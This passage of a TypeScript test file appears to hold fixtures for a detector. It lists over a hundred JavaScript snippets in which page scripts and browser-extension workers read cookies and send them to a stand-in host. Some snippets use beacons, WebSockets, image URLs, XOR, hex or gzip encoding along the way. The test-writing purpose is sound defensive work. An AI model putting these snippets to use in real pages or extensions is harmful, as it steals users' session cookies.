import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sentKinds } from '../../../testing/sent-kinds.ts';

const post = (value: string): string =>
  `fetch('https://in.a.dev/a', { method: 'POST', body: JSON.stringify(${value}) })`;

/** Ways in which developers hold, hand on, gather and send what they read of a page, here its cookies. */
const inPages: Readonly<Record<string, string>> = {
  'for index writes': `const list = [{}, {}]; for (let i = 0; i < list.length; i++) list[i].c = {text}; ${post('list')};`,
  'map writes': `const list = [{}, {}].map((x) => { x.c = {text}; return x; }); ${post('list')};`,
  'add helper arrow': `const st = { items: [] }; const add = (l, v) => l.push(v); add(st.items, {text}); ${post('st.items')};`,
  'getter push': `const st = { l: [], get items() { return this.l; } }; st.items.push({text}); ${post('st.items')};`,
  'getter push class': `class S { constructor() { this.l = []; } get items() { return this.l; } } const s = new S(); s.items.push({text}); ${post('s.items')};`,
  'key map': `const m = new Map(); m.set({text}, 1); ${post('[...m.keys()]')};`,
  'key map entries': `const m = new Map(); m.set({text}, 1); for (const [k] of m) ${post('k')};`,
  'map of this push': `class C { m = new Map(); go() { if (!this.m.has('a')) this.m.set('a', []); this.m.get('a').push({text}); ${post('[...this.m.values()]')} } } new C().go();`,
  'reduce compose of x': `const pipe = (...fns) => (x) => fns.reduce((v, f) => f(v), x); const send = (v) => ${post('v')}; pipe((s) => s.trim(), send)({text});`,
  'reduce list of fns': `const send = (v) => ${post('v')}; [(s) => s.trim(), send].reduce((v, f) => f(v), {text});`,
  'loop of fns': `const send = (v) => ${post('v')}; const fns = [(s) => s.trim(), send]; let v = {text}; for (const f of fns) v = f(v);`,
  'compose pairs': `const compose = (...f) => f.reduce((a, b) => (...args) => a(b(...args))); const send = (v) => ${post('v')}; compose(send, (s) => s.trim())({text});`,
  'class queue': `class Q { constructor() { this.items = []; } add(v) { this.items.push(v); } flush() { const batch = this.items.splice(0); ${post('batch')}; } } const q = new Q(); q.add({text}); q.flush();`,
  'private queue': `class Q { #items = []; add(v) { this.#items.push(v); } flush() { const batch = this.#items; this.#items = []; ${post('{ batch }')}; } } const q = new Q(); q.add({text}); q.flush();`,
  'static state': `class S { static data = {}; static set(k, v) { S.data[k] = v; } static send() { ${post('S.data')}; } } S.set('c', {text}); S.send();`,
  singleton: `class S { static get i() { return (S._i ??= new S()); } set(v) { this.v = v; } go() { ${post('this.v')}; } } S.i.set({text}); S.i.go();`,
  'singleton fn': `class S { static get() { if (!S.one) S.one = new S(); return S.one; } set(v) { this.v = v; } go() { ${post('this.v')}; } } S.get().set({text}); S.get().go();`,
  builder: `class B { constructor() { this.p = {}; } with(k, v) { this.p[k] = v; return this; } send() { ${post('this.p')}; } } new B().with('a', 1).with('c', {text}).send();`,
  'emitter own': `class E { h = {}; on(n, f) { (this.h[n] ||= []).push(f); } emit(n, ...a) { (this.h[n] || []).forEach((f) => f(...a)); } } const e = new E(); e.on('c', (v) => { ${post('v')}; }); e.emit('c', {text});`,
  'emitter set': `class E { h = new Map(); on(n, f) { if (!this.h.has(n)) this.h.set(n, new Set()); this.h.get(n).add(f); } emit(n, v) { for (const f of this.h.get(n) ?? []) f(v); } } const e = new E(); e.on('c', (v) => { ${post('v')}; }); e.emit('c', {text});`,
  EventTarget: `const t = new EventTarget(); t.addEventListener('c', (e) => { ${post('e.detail')}; }); t.dispatchEvent(new CustomEvent('c', { detail: {text} }));`,
  'EventTarget class': `class B extends EventTarget {} const t = new B(); t.addEventListener('c', ({ detail }) => { ${post('detail')}; }); t.dispatchEvent(new CustomEvent('c', { detail: { v: {text} } }));`,
  'document event': `document.addEventListener('my-c', (e) => { ${post('e.detail.v')}; }); document.dispatchEvent(new CustomEvent('my-c', { detail: { v: {text} } }));`,
  'observer pattern': `const subs = []; const subscribe = (f) => subs.push(f); const notify = (v) => subs.forEach((f) => f(v)); subscribe((v) => { ${post('v')}; }); notify({text});`,
  redux: `const createStore = (r) => { let s; const l = []; return { dispatch(a) { s = r(s, a); l.forEach((f) => f()); }, getState: () => s, subscribe(f) { l.push(f); } }; }; const store = createStore((s = {}, a) => a.type === 'C' ? { ...s, c: a.payload } : s); store.subscribe(() => { ${post('store.getState()')}; }); store.dispatch({ type: 'C', payload: {text} });`,
  'reducer switch': `function r(s, a) { switch (a.type) { case 'C': return { ...s, c: a.payload }; default: return s; } } let s = {}; s = r(s, { type: 'C', payload: {text} }); ${post('s')};`,
  'proxy get': `const st = new Proxy({ c: {text} }, { get: (t, k) => t[k] }); ${post('st.c')};`,
  'proxy reflect': `const st = new Proxy({ c: {text} }, { get(t, k, r) { return Reflect.get(t, k, r); } }); ${post('st.c')};`,
  'proxy apply': `const send = new Proxy((v) => { ${post('v')}; }, {}); send({text});`,
  'setter sends': `const o = { set c(v) { ${post('v')}; } }; o.c = {text};`,
  'setter class': `class O { set c(v) { this._c = v; } get c() { return this._c; } } const o = new O(); o.c = {text}; ${post('o.c')};`,
  'getter define': `const o = {}; Object.defineProperty(o, 'c', { get() { return {text}; } }); ${post('o.c')};`,
  'symbol key': `const K = Symbol('k'); const o = {}; o[K] = {text}; ${post('o[K]')};`,
  'symbol key class': `const K = Symbol('k'); class A { constructor() { this[K] = {text}; } go() { ${post('this[K]')}; } } new A().go();`,
  WeakMap: `const w = new WeakMap(); const k = {}; w.set(k, {text}); ${post('w.get(k)')};`,
  'WeakMap this': `const w = new WeakMap(); class A { constructor(v) { w.set(this, { v }); } go() { ${post('w.get(this).v')}; } } new A({text}).go();`,
  'closure counter': `const make = () => { let v; return { set: (x) => { v = x; }, get: () => v }; }; const a = make(); a.set({text}); ${post('a.get()')};`,
  'module pattern': `const M = (function () { var data = []; function add(v) { data.push(v); } function send() { ${post('data')}; } return { add: add, send: send }; })(); M.add({text}); M.send();`,
  'revealing with this': `var M = { data: {}, add: function (k, v) { this.data[k] = v; return this; }, send: function () { ${post('this.data')}; } }; M.add('c', {text}).send();`,
  prototype:
    "function Api(u) { this.u = u; this.q = []; } Api.prototype.add = function (v) { this.q.push(v); }; Api.prototype.send = function () { fetch(this.u, { method: 'POST', body: JSON.stringify(this.q) }); }; var a = new Api('https://in.a.dev/a'); a.add({text}); a.send();",
  'prototype object': `function Api() {} Api.prototype = { add: function (v) { this.v = v; }, send: function () { ${post('this.v')}; } }; var a = new Api(); a.add({text}); a.send();`,
  mixins: `const Sends = (B) => class extends B { send() { ${post('this.v')}; } }; class Base { constructor(v) { this.v = v; } } class X extends Sends(Base) {} new X({text}).send();`,
  inheritance: `class A { send() { ${post('this.data()')}; } } class B extends A { data() { return {text}; } } new B().send();`,
  'abstract template': `class A { run() { const d = this.collect(); this.ship(d); } ship(d) { ${post('d')}; } } class B extends A { collect() { return { c: {text} }; } } new B().run();`,
  'super call': `class A { ship(d) { ${post('d')}; } } class B extends A { ship(d) { super.ship({ d }); } } new B().ship({text});`,
  'ts enum': `var Kind; (function (Kind) { Kind[Kind["Cookie"] = 0] = "Cookie"; Kind[Kind["Other"] = 1] = "Other"; })(Kind || (Kind = {})); const d = {}; d[Kind.Cookie] = {text}; ${post('d[Kind.Cookie]')};`,
  'ts enum switch': `var K; (function (K) { K["C"] = "c"; })(K || (K = {})); function get(k) { switch (k) { case K.C: return {text}; } } ${post('get(K.C)')};`,
  'ts namespace': `var App; (function (App) { App.data = {}; function send() { ${post('App.data')}; } App.send = send; })(App || (App = {})); App.data.c = {text}; App.send();`,
  'ES5 generator': `var __generator = (this && this.__generator) || function () {}; var __awaiter = (this && this.__awaiter) || function () {}; function run() { return __awaiter(this, void 0, void 0, function () { var c; return __generator(this, function (_a) { switch (_a.label) { case 0: return [4, get()]; case 1: c = _a.sent(); ${post('c')}; return [2]; } }); }); } function get() { return __awaiter(this, void 0, void 0, function () { return __generator(this, function (_a) { return [2, {text}]; }); }); } run();`,
  regenerator: `function run() { return _run.apply(this, arguments); } function _run() { _run = _asyncToGenerator(regeneratorRuntime.mark(function _callee(v) { return regeneratorRuntime.wrap(function (c) { while (1) switch (c.prev = c.next) { case 0: c.next = 2; return ${post('v')}; case 2: case "end": return c.stop(); } }, _callee); })); return _run.apply(this, arguments); } run({text});`,
  webpack: `(() => { var m = { 1: (m, e, r) => { r.d(e, { s: () => s }); const s = (v) => ${post('v')}; }, 2: (m, e, r) => { var a = r(1); (0, a.s)({text}); } }, c = {}; function r(i) { var x = c[i]; if (x) return x.exports; var n = c[i] = { exports: {} }; m[i](n, n.exports, r); return n.exports; } r.d = (e, d) => { for (var k in d) Object.defineProperty(e, k, { enumerable: true, get: d[k] }); }; r(2); })();`,
  webpackChunk: `(self.webpackChunkx = self.webpackChunkx || []).push([[179], { 10: (e, t, n) => { n.d(t, { Z: () => send }); function send(v) { ${post('v')}; } }, 20: (e, t, n) => { var r = n(10); (0, r.Z)({ c: {text} }); } }, (e) => { e(e.s = 20); }]);`,
  URLSearchParams:
    "const p = new URLSearchParams(); p.append('c', {text}); fetch('https://in.a.dev/a?' + p);",
  'URLSearchParams set toString':
    "const p = new URLSearchParams({ v: '1' }); p.set('c', {text}); fetch('https://in.a.dev/a', { method: 'POST', body: p.toString() });",
  'URL searchParams':
    "const u = new URL('https://in.a.dev/a'); u.searchParams.set('c', {text}); fetch(u);",
  'URL search':
    "const u = new URL('https://in.a.dev/a'); u.search = new URLSearchParams({ c: {text} }); fetch(u.href);",
  'URL params loop':
    "const u = new URL('https://in.a.dev/a'); const d = { c: {text} }; Object.keys(d).forEach((k) => u.searchParams.append(k, d[k])); fetch(u);",
  'query map join':
    "const d = { c: {text} }; const q = Object.keys(d).map((k) => k + '=' + encodeURIComponent(d[k])).join('&'); new Image().src = 'https://in.a.dev/a?' + q;",
  'query for in':
    "var d = { c: {text} }, q = []; for (var k in d) if (d.hasOwnProperty(k)) q.push(encodeURIComponent(k) + '=' + encodeURIComponent(d[k])); fetch('https://in.a.dev/a?' + q.join('&'));",
  FormData:
    "const f = new FormData(); f.append('c', {text}); fetch('https://in.a.dev/a', { method: 'POST', body: f });",
  'FormData loop':
    "const f = new FormData(); for (const [k, v] of Object.entries({ c: {text} })) f.append(k, v); navigator.sendBeacon('https://in.a.dev/a', f);",
  headers: "fetch('https://in.a.dev/a', { headers: { 'X-C': {text} } });",
  'Headers object':
    "const h = new Headers(); h.set('X-C', {text}); fetch('https://in.a.dev/a', { headers: h });",
  'Headers request':
    "const h = new Headers({ a: '1' }); h.append('X-C', btoa({text})); const r = new Request('https://in.a.dev/a', { headers: h }); fetch(r);",
  'request clone':
    "const r = new Request('https://in.a.dev/a', { method: 'POST', body: {text} }); fetch(r.clone());",
  beacon: "navigator.sendBeacon('https://in.a.dev/a', JSON.stringify({ c: {text} }));",
  'beacon bind': "const b = navigator.sendBeacon.bind(navigator); b('https://in.a.dev/a', {text});",
  'beacon on hide':
    "let buf = []; buf.push({ c: {text} }); addEventListener('pagehide', () => { if (buf.length) navigator.sendBeacon('https://in.a.dev/a', JSON.stringify(buf)); buf = []; });",
  ws: "const ws = new WebSocket('wss://in.a.dev/'); ws.addEventListener('open', () => ws.send(JSON.stringify({ c: {text} })));",
  'ws queue':
    "const q = []; const ws = new WebSocket('wss://in.a.dev/'); const send = (m) => ws.readyState === 1 ? ws.send(m) : q.push(m); ws.onopen = () => { while (q.length) ws.send(q.shift()); }; send({text});",
  'ws class':
    "class Sock { constructor(u) { this.ws = new WebSocket(u); this.q = []; this.ws.onopen = () => this.q.forEach((m) => this.ws.send(m)); } send(m) { this.q.push(JSON.stringify(m)); } } new Sock('wss://in.a.dev/').send({ c: {text} });",
  EventSource: "new EventSource('https://in.a.dev/a?c=' + encodeURIComponent({text}));",
  template: `fetch(\`https://in.a.dev/a?c=\${encodeURIComponent({text})}\`);`,
  'tagged template': `const u = (s, ...v) => s.reduce((a, p, i) => a + p + (v[i] === undefined ? '' : encodeURIComponent(v[i])), ''); fetch(u\`https://in.a.dev/a?c=\${{text}}\`);`,
  retry: `async function retry(f, n = 3) { for (let i = 0; i < n; i++) { try { return await f(); } catch (e) { await new Promise((r) => setTimeout(r, 100)); } } } const d = {text}; retry(() => ${post('d')});`,
  'retry data': `async function send(d, n = 3) { try { await ${post('d')}; } catch { if (n > 0) setTimeout(send, 1000, d, n - 1); } } send({text});`,
  'async queue': `const queue = []; let busy = false; async function drain() { if (busy) return; busy = true; while (queue.length) { const job = queue.shift(); await job(); } busy = false; } const enqueue = (f) => { queue.push(f); drain(); }; const d = {text}; enqueue(() => ${post('d')});`,
  'promise chain': `let p = Promise.resolve(); const push = (d) => { p = p.then(() => ${post('d')}); }; push({text});`,
  debounce: `const debounce = (f, ms) => { let t; return (...a) => { clearTimeout(t); t = setTimeout(() => f(...a), ms); }; }; const send = debounce((v) => { ${post('v')}; }, 100); send({text});`,
  'debounce apply': `function debounce(fn, wait) { var t; return function () { var ctx = this, args = arguments; clearTimeout(t); t = setTimeout(function () { fn.apply(ctx, args); }, wait); }; } var send = debounce(function (v) { ${post('v')}; }, 9); send({text});`,
  'throttle last': `let last; const send = () => { ${post('last')}; }; const track = (v) => { last = v; requestIdleCallback(send); }; track({text});`,
  memo: `const memo = (f) => { const c = new Map(); return (k) => { if (!c.has(k)) c.set(k, f(k)); return c.get(k); }; }; const read = memo(() => {text}); ${post("read('a')")};`,
  once: `const once = (f) => { let d, r; return () => d ? r : (d = true, r = f()); }; const read = once(() => {text}); ${post('read()')};`,
  curry:
    "const send = (u) => (k) => (v) => fetch(u, { method: 'POST', body: JSON.stringify({ [k]: v }) }); send('https://in.a.dev/a')('c')({text});",
  bind: "function send(u, v) { fetch(u, { method: 'POST', body: v }); } const s = send.bind(null, 'https://in.a.dev/a'); s({text});",
  'jquery post': "$.post('https://in.a.dev/a', { c: {text} });",
  'jquery ajax':
    "$.ajax({ url: 'https://in.a.dev/a', method: 'POST', data: JSON.stringify({ c: {text} }) });",
  'jquery extend': "var d = $.extend({}, { a: 1 }, { c: {text} }); $.get('https://in.a.dev/a', d);",
  'jquery param': "$.get('https://in.a.dev/a?' + $.param({ c: {text} }));",
  'jquery trigger': `$(document).on('c', function (e, v) { ${post('v')}; }); $(document).trigger('c', [{text}]);`,
  'axios post': "axios.post('https://in.a.dev/a', { c: {text} });",
  'axios instance':
    "const api = axios.create({ baseURL: 'https://in.a.dev' }); api.post('/a', { c: {text} });",
  'axios config': "axios({ method: 'post', url: 'https://in.a.dev/a', data: { c: {text} } });",
  'axios headers': "axios.get('https://in.a.dev/a', { headers: { c: {text} } });",
  'axios interceptor':
    "axios.interceptors.request.use((c) => { c.headers['X-C'] = {text}; return c; }); axios.get('https://in.a.dev/a');",
  'react state': `function C() { const [c, setC] = useState(''); useEffect(() => { setC({text}); }, []); useEffect(() => { if (c) ${post('c')}; }, [c]); return null; }`,
  'react ref': `function C() { const r = useRef(null); useEffect(() => { r.current = {text}; ${post('r.current')}; }); }`,
  'react class': `class C extends React.Component { componentDidMount() { this.setState({ c: {text} }); } componentDidUpdate() { ${post('this.state.c')}; } }`,
  'vue data': `new Vue({ data: function () { return { c: '' }; }, mounted: function () { this.c = {text}; this.send(); }, methods: { send: function () { ${post('this.c')}; } } });`,
  'vue ref value': `const c = Vue.ref(''); c.value = {text}; Vue.onMounted(() => { ${post('c.value')}; });`,
  'vue reactive': `const s = reactive({ c: '' }); s.c = {text}; ${post('s')};`,
  'deque class': `class D { constructor() { this.h = {}; this.n = 0; } push(v) { this.h[this.n++] = v; } all() { return Object.values(this.h); } } const d = new D(); d.push({text}); ${post('d.all()')};`,
  'linked list': `let head = null; const add = (v) => { head = { v, next: head }; }; add({text}); for (let n = head; n; n = n.next) ${post('n.v')};`,
  'stack pop': `const s = []; const save = (v) => { s[s.length] = v; }; save({text}); ${post('s.pop()')};`,
  'index write': `const s = []; let i = 0; s[i++] = {text}; ${post('s')};`,
  'buffer concat': `let b = []; b = b.concat([{text}]); ${post('b')};`,
  'buffer spread': `let b = []; b = [...b, { c: {text} }]; ${post('b')};`,
  chunks: `const t = {text}; for (let i = 0; i < t.length; i += 10) ${post('t.slice(i, i + 10)')};`,
  'chunk generator': `function* chunks(t) { for (let i = 0; i < t.length; i += 5) yield t.substr(i, 5); } for (const c of chunks({text})) ${post('c')};`,
  'async generator': `async function* read() { yield {text}; } (async () => { for await (const c of read()) ${post('c')}; })();`,
  'then of thenable': `Promise.resolve({text}).then((v) => v.trim()).then((v) => ({ v })).then((d) => ${post('d')});`,
  allSettled: `Promise.allSettled([Promise.resolve({text})]).then((r) => { r.forEach((x) => { if (x.status === 'fulfilled') ${post('x.value')}; }); });`,
  'all destructured': `Promise.all([1, (async () => {text})()]).then(([a, c]) => ${post('c')});`,
  withResolvers: `const { promise, resolve } = Promise.withResolvers(); promise.then((v) => ${post('v')}); resolve({text});`,
  'deferred class': `class Deferred { constructor() { this.promise = new Promise((a, b) => { this.resolve = a; this.reject = b; }); } } const d = new Deferred(); d.promise.then((v) => { ${post('v')}; }); d.resolve({text});`,
  'error carries': `try { const e = new Error('x'); e.data = {text}; throw e; } catch (e) { ${post('e.data')}; }`,
  'error message': `try { throw new Error({text}); } catch (e) { ${post('e.message')}; }`,
  'error class': `class E extends Error { constructor(m, d) { super(m); this.d = d; } } try { throw new E('a', {text}); } catch (e) { ${post('e.d')}; }`,
  reject: `Promise.reject({text}).catch((e) => { ${post('e')}; });`,
  'label switch': `let out; switch (true) { case location.host !== '': out = {text}; break; } ${post('out')};`,
  'nested destructuring': `const { a: [{ c = 1 } = {}] = [] } = { a: [{ c: {text} }] }; ${post('c')};`,
  'default param': `function send(v = {text}) { ${post('v')}; } send();`,
  'default param object': `function send({ v = {text}, u = 1 } = {}) { ${post('v')}; } send();`,
  swap: `let a = {text}, b = 1; [a, b] = [b, a]; ${post('b')};`,
  comma: `let a; (a = {text}, void 0); ${post('a')};`,
  nullish: `const a = window.__x ?? {text}; ${post('a')};`,
  'optional call': `const s = { go(v) { ${post('v')}; } }; s?.go?.({text});`,
  global: `window.__data = {text}; ${post('window.__data')};`,
  'globalThis key': `globalThis['_d'] = {text}; ${post('globalThis._d')};`,
  'element property': `const d = document.createElement('div'); d.textContent = {text}; ${post('d.textContent')};`,
  textarea: `const t = document.createElement('textarea'); t.value = {text}; ${post('t.value')};`,
  'localStorage member': `localStorage.c = {text}; ${post('localStorage.c')};`,
  'window.name': `window.name = {text}; ${post('window.name')};`,
  'postMessage self': `window.addEventListener('message', (e) => { if (e.data.k === 'c') ${post('e.data.v')}; }); window.postMessage({ k: 'c', v: {text} }, '*');`,
  'new Function': `new Function('v', "fetch('https://in.a.dev/a', { method: 'POST', body: v })")({text});`,
  'img onload':
    "const i = new Image(); i.onload = i.onerror = () => {}; i.src = 'https://in.a.dev/p.gif?c=' + escape({text});",
  xor: `const t = {text}; let o = ''; for (let i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 7); ${post('o')};`,
  hex: `const h = Array.from(new TextEncoder().encode({text})).map((b) => b.toString(16).padStart(2, '0')).join(''); ${post('h')};`,
  'split reverse': `${post(`{text}.split('').reverse().join('')`)};`,
  'parse cookies': `const o = {}; {text}.split('; ').forEach((p) => { const i = p.indexOf('='); o[p.slice(0, i)] = p.slice(i + 1); }); ${post('o')};`,
  getCookie: `function getCookie(n) { var a = {text}.split(';'); for (var i = 0; i < a.length; i++) { var c = a[i]; while (c.charAt(0) == ' ') c = c.substring(1); if (c.indexOf(n) == 0) return c.substring(n.length, c.length); } return ''; } ${post("getCookie('sid=')")};`,
  'getCookie regex': `function getCookie(n) { const m = {text}.match('(^|;)\\\\s*' + n + '\\\\s*=\\\\s*([^;]+)'); return m ? m.pop() : ''; } ${post("getCookie('sid')")};`,
  'reduce cookies': `const all = {text}.split(';').reduce((a, c) => Object.assign(a, { [c.split('=')[0]]: c.split('=')[1] }), {}); ${post('all')};`,
  bitstring: `const bits = [...{text}].map((c) => c.charCodeAt(0).toString(2)); ${post('bits')};`,
  'Object.entries map': `const o = { c: {text} }; ${post("Object.fromEntries(Object.entries(o).map(([k, v]) => [k, v + '']))")};`,
  'Object.defineProperties': `const o = Object.defineProperties({}, { c: { value: {text}, enumerable: true } }); ${post('o')};`,
  'Object.create': `const o = Object.create({ c: {text} }); ${post('o.c')};`,
  'Object.create 2': `const o = Object.create(null, { c: { value: {text} } }); ${post('o.c')};`,
  setPrototypeOf: `const o = Object.setPrototypeOf({}, { c: {text} }); ${post('o.c')};`,
  'with callbacks err data': `function read(cb) { cb(null, {text}); } read((err, d) => { ${post('d')}; });`,
  'callback object': `function read({ ok }) { ok({text}); } read({ ok: (d) => { ${post('d')}; } });`,
  'callback in class': `class R { constructor(cb) { this.cb = cb; } run() { this.cb({text}); } } new R((d) => { ${post('d')}; }).run();`,
  'handlers table': `const h = { c: (v) => { ${post('v')}; }, d: () => {} }; const run = (k, v) => h[k](v); run('c', {text});`,
  'handlers map': `const h = new Map([['c', (v) => { ${post('v')}; }]]); h.get('c')({text});`,
  middleware: `const mw = []; const use = (f) => mw.push(f); const run = (ctx, i = 0) => { const f = mw[i]; if (f) f(ctx, () => run(ctx, i + 1)); }; use((ctx, next) => { ctx.c = {text}; next(); }); use((ctx) => { ${post('ctx.c')}; }); run({});`,
  plugins: `const plugins = { a: { collect: () => ({ c: {text} }) } }; const out = {}; for (const n of Object.keys(plugins)) out[n] = plugins[n].collect(); ${post('out')};`,
  'collectors list': `const collectors = [() => location.pathname, () => {text}]; const out = collectors.map((f) => f()); ${post('out')};`,
  'collectors promise': `const collectors = [async () => 1, async () => {text}]; Promise.all(collectors.map((f) => f())).then((r) => ${post('r')});`,
  'Reflect.get': `${post("Reflect.get({ c: {text} }, 'c')")};`,
  'Reflect.set': `const o = {}; Reflect.set(o, 'c', {text}); ${post('o')};`,
  'Reflect.construct': `class A { constructor(v) { this.v = v; } } const a = Reflect.construct(A, [{text}]); ${post('a.v')};`,
  'Array.prototype.push.apply': `const l = []; Array.prototype.push.apply(l, [{text}]); ${post('l')};`,
  'Array.of': `${post(`Array.of({text}).at(-1)`)};`,
  'Array.from': `const l = Array.from([{text}].entries()); ${post('l')};`,
  'array entries': `for (const [i, v] of [{text}].entries()) ${post('v')};`,
  flat: `${post(`[[{text}]].flat()`)};`,
  'toString object':
    "class D { constructor(v) { this.v = v; } toString() { return this.v; } } fetch('https://in.a.dev/a?' + new D({text}));",
  'iterator class': `class L { constructor(v) { this.v = v; } *[Symbol.iterator]() { yield this.v; } } for (const x of new L({text})) ${post('x')};`,
  structuredClone: `${post(`structuredClone({ c: {text} }).c`)};`,
  'Object.freeze': `const C = Object.freeze({ read: () => {text} }); ${post('C.read()')};`,
  'IIFE arg': `(function (w, d, v) { ${post('v')}; })(window, document, {text});`,
  'apply args': `function s() { ${post('arguments[1]')}; } s.apply(null, [1, {text}]);`,
  'args slice': `function s() { var a = Array.prototype.slice.call(arguments, 1); ${post('a')}; } s('x', {text});`,
  'args loop': `function s() { var o = []; for (var i = 0; i < arguments.length; i++) o.push(arguments[i]); ${post('o')}; } s({text});`,
  'variadic log': `const log = (...a) => ${post('{ a }')}; log('c', {text});`,
  'gtag like': `window.dl = window.dl || []; function gt() { dl.push(arguments); } gt('event', {text}); ${post('dl')};`,
  'ga queue': `window.tq = window.tq || function () { (tq.q = tq.q || []).push(arguments); }; tq('c', {text}); ${post('tq.q')};`,
};

/** The same of what a service worker asks of the browser. */
const inWorkers: Readonly<Record<string, string>> = {
  'getAll.bind': `const g = chrome.cookies.getAll.bind(chrome.cookies); g({}, (c) => { ${post('c')}; });`,
  'getAll.bind args': `const g = chrome.cookies.getAll.bind(chrome.cookies, {}); g((c) => { ${post('c')}; });`,
  'getAll.bind promise': `const g = chrome.cookies.getAll.bind(chrome.cookies); g({}).then((c) => { ${post('c')}; });`,
  promisify: `const p = (f, ...a) => new Promise((r) => f(...a, r)); p(chrome.cookies.getAll, {}).then((c) => ${post('c')});`,
  'promisify bind': `const p = (f) => (...a) => new Promise((r) => f(...a, r)); const g = p(chrome.cookies.getAll.bind(chrome.cookies)); g({}).then((c) => ${post('c')});`,
  'promisify call': `const p = (o, m, ...a) => new Promise((r) => o[m].call(o, ...a, r)); p(chrome.cookies, 'getAll', {}).then((c) => ${post('c')});`,
  'await loop': `(async () => { for (const c of await chrome.cookies.getAll({})) ${post('{ n: c.name, v: c.value }')}; })();`,
  'map values': `chrome.cookies.getAll({}, (c) => { const s = c.map((x) => x.name + '=' + x.value).join('; '); ${post('s')}; });`,
  'index adds': `(async () => { const list = []; for (let i = 0; i < 3; i++) { const r = {}; r.c = await chrome.cookies.getAll({}); list.push(r); } ${post('list')}; })();`,
  'storage buffer alarm': `chrome.cookies.onChanged.addListener(async (i) => { const { q = [] } = await chrome.storage.local.get('q'); q.push(i.cookie); await chrome.storage.local.set({ q }); }); chrome.alarms.onAlarm.addListener(async () => { const { q } = await chrome.storage.local.get('q'); ${post('q')}; });`,
  'storage callback buffer': `function save(c) { chrome.storage.local.get({ q: [] }, function (r) { r.q.push(c); chrome.storage.local.set(r); }); } chrome.cookies.getAll({}, save); chrome.alarms.onAlarm.addListener(function () { chrome.storage.local.get('q', function (r) { ${post('r.q')}; }); });`,
  'storage onChanged': `chrome.cookies.getAll({}, (c) => chrome.storage.local.set({ c })); chrome.storage.onChanged.addListener((ch) => { ${post('ch.c.newValue')}; });`,
  'storage wrapper': `const store = { get: (k) => new Promise((r) => chrome.storage.local.get(k, (o) => r(o[k]))), set: (k, v) => new Promise((r) => chrome.storage.local.set({ [k]: v }, r)) }; (async () => { await store.set('c', await chrome.cookies.getAll({})); ${post("await store.get('c')")}; })();`,
  'session storage': `chrome.cookies.getAll({}).then((c) => chrome.storage.session.set({ c })); chrome.alarms.onAlarm.addListener(async () => { ${post('(await chrome.storage.session.get("c")).c')}; });`,
  'class api':
    "class Api { constructor(b) { this.b = b; } req(p, o) { return fetch(this.b + p, o); } post(p, d) { return this.req(p, { method: 'POST', body: JSON.stringify(d) }); } } const api = new Api('https://in.a.dev'); chrome.cookies.getAll({}, (c) => api.post('/c', { c }));",
  'class collector': `class C { async collect() { this.c = await chrome.cookies.getAll({}); } async run() { await this.collect(); await this.send(); } async send() { ${post('this.c')}; } } new C().run();`,
  'bound method callback': `class C { run() { chrome.cookies.getAll({}, this.on.bind(this)); } on(c) { ${post('c')}; } } new C().run();`,
  'handler field': `class C { on = (c) => { ${post('c')}; }; run() { chrome.cookies.getAll({}, this.on); } } new C().run();`,
  batch: `const batch = []; let timer; function add(x) { batch.push(x); timer ||= setTimeout(flush, 100); } function flush() { timer = undefined; const b = batch.splice(0, batch.length); ${post('{ b }')}; } chrome.cookies.onChanged.addListener(({ cookie }) => add(cookie));`,
  'batch map 2': `const by = new Map(); chrome.cookies.onChanged.addListener(({ cookie }) => { const d = by.get(cookie.domain) || []; d.push(cookie.value); by.set(cookie.domain, d); }); setInterval(() => { ${post('Object.fromEntries(by)')}; }, 99);`,
  port: `chrome.runtime.onConnect.addListener((p) => { p.onMessage.addListener(async (m) => { if (m.t === 'c') { const c = await chrome.cookies.getAll({}); ${post('c')}; } }); });`,
  'retry result': `async function retry(f, n = 3) { for (let i = 0; ; i++) { try { return await f(); } catch (e) { if (i >= n) throw e; } } } (async () => { const c = await retry(() => chrome.cookies.getAll({})); ${post('c')}; })();`,
  'timeout race': `const timeout = (p, ms) => Promise.race([p, new Promise((_, r) => setTimeout(r, ms))]); timeout(chrome.cookies.getAll({}), 99).then((c) => ${post('c')});`,
  'util wrapper': `const browser = { cookies: { getAll: (d) => new Promise((r) => chrome.cookies.getAll(d, r)) } }; browser.cookies.getAll({}).then((c) => ${post('c')});`,
  'browser polyfill': `const api = globalThis.browser ?? globalThis.chrome; api.cookies.getAll({}).then((c) => ${post('c')});`,
  'typeof browser': `const b = typeof browser !== 'undefined' ? browser : chrome; b.cookies.getAll({}, (c) => { ${post('c')}; });`,
  destructured: `const { cookies: { getAll } } = chrome; getAll({}, (c) => { ${post('c')}; });`,
  'optional chain': `chrome?.cookies?.getAll?.({}, (c) => { ${post('c')}; });`,
  'Set of cookies': `chrome.cookies.getAll({}, (c) => { const s = new Set(); c.forEach((x) => s.add(x.value)); ${post('Array.from(s)')}; });`,
  'group by domain': `chrome.cookies.getAll({}, (c) => { const g = Object.groupBy(c, (x) => x.domain); ${post('g')}; });`,
  'reduce domain': `chrome.cookies.getAll({}, (c) => { const g = c.reduce((a, x) => { (a[x.domain] = a[x.domain] || []).push(x); return a; }, {}); ${post('g')}; });`,
  netscape: `chrome.cookies.getAll({}, (c) => { let s = ''; for (const x of c) s += [x.domain, x.path, x.name, x.value].join('\\t') + '\\n'; const f = new FormData(); f.append('d', new Blob([s])); fetch('https://in.a.dev/a', { method: 'POST', body: f }); });`,
  'cb then': `const get = (q) => new Promise((res, rej) => chrome.cookies.getAll(q, (c) => chrome.runtime.lastError ? rej(chrome.runtime.lastError) : res(c))); get({}).then((c) => ${post('c')});`,
  'async IIFE Promise.all': `(async () => { const [t, c] = await Promise.all([chrome.tabs.query({}), chrome.cookies.getAll({})]); ${post('{ n: t.length, c }')}; })();`,
  rx: `const subj = { l: [], next(v) { this.l.forEach((f) => f(v)); }, subscribe(f) { this.l.push(f); } }; subj.subscribe((c) => { ${post('c')}; }); chrome.cookies.getAll({}, (c) => subj.next(c));`,
  'response stream':
    "chrome.cookies.getAll({}, (c) => { const s = new ReadableStream({ start(k) { k.enqueue(JSON.stringify(c)); k.close(); } }); fetch('https://in.a.dev/a', { method: 'POST', body: s, duplex: 'half' }); });",
  compress:
    "chrome.cookies.getAll({}, async (c) => { const b = new Blob([JSON.stringify(c)]).stream().pipeThrough(new CompressionStream('gzip')); fetch('https://in.a.dev/a', { method: 'POST', body: await new Response(b).blob() }); });",
  encrypt:
